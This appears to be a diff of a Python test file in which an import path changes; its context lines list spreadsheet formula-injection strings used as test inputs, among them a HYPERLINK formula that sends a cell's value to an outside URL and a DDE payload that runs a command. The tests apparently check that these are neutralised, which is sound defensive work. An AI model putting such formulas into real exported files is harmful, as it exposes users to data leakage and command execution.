@@ -8,7 +8,7 @@ import io
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from mamol.core.table_text import figure, table_text
+from mamol.core.text import figure, table_text
 
 FORMULAS = ('=HYPERLINK("http://example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1+1", "\t=1+1",
             "\u00a0=1+1", "\uff1d1+1", "-", "=")  # fmt: skip
